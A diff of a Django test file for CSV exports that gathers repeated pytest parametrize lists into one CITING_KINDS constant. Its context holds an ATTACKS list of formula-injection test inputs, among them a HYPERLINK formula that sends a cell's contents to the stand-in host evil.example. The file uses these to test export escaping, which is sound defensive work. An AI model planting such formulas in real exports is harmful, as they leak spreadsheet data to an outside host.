@@ -34,6 +34,16 @@ from tests.imports.helpers import (
     write_csv,
 )
 
+# Every list with an export whose records cite sources, with the factory that makes one.
+CITING_KINDS = [
+    ("deployments", DeploymentFactory),
+    ("contracts", ContractFactory),
+    ("ndas", NdaFactory),
+    ("agencies", AgencyFactory),
+    ("vendors", VendorFactory),
+    ("products", ProductFactory),
+]
+
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?"&A2,"x")',
     "+1+1",
@@ -157,15 +167,7 @@ def test_the_import_restores_what_the_export_escaped(tmp_path):
 @pytest.mark.django_db
 @pytest.mark.parametrize(
     ("kind", "factory"),
-    [
-        ("deployments", DeploymentFactory),
-        ("contracts", ContractFactory),
-        ("ndas", NdaFactory),
-        ("agencies", AgencyFactory),
-        ("vendors", VendorFactory),
-        ("products", ProductFactory),
-        ("sources", SourceFactory),
-    ],
+    [*CITING_KINDS, ("sources", SourceFactory)],
 )
 def test_every_export_has_one_row_per_published_record_with_id_and_address(client, kind, factory):
     shown = factory()
@@ -178,14 +180,7 @@ def test_every_export_has_one_row_per_published_record_with_id_and_address(clien
 @pytest.mark.django_db
 @pytest.mark.parametrize(
     ("kind", "factory"),
-    [
-        ("deployments", DeploymentFactory),
-        ("contracts", ContractFactory),
-        ("ndas", NdaFactory),
-        ("agencies", AgencyFactory),
-        ("vendors", VendorFactory),
-        ("products", ProductFactory),
-    ],
+    CITING_KINDS,
 )
 def test_the_page_says_how_many_rows_its_download_has_and_it_has_them(client, kind, factory):
     for record in factory.create_batch(3):
@@ -201,14 +196,7 @@ def test_the_page_says_how_many_rows_its_download_has_and_it_has_them(client, ki
 @pytest.mark.django_db
 @pytest.mark.parametrize(
     ("kind", "factory"),
-    [
-        ("deployments", DeploymentFactory),
-        ("contracts", ContractFactory),
-        ("ndas", NdaFactory),
-        ("agencies", AgencyFactory),
-        ("vendors", VendorFactory),
-        ("products", ProductFactory),
-    ],
+    CITING_KINDS,
 )
 def test_only_published_sources_are_listed(client, kind, factory):
     published = SourceFactory(url="https://a.example.org/published")
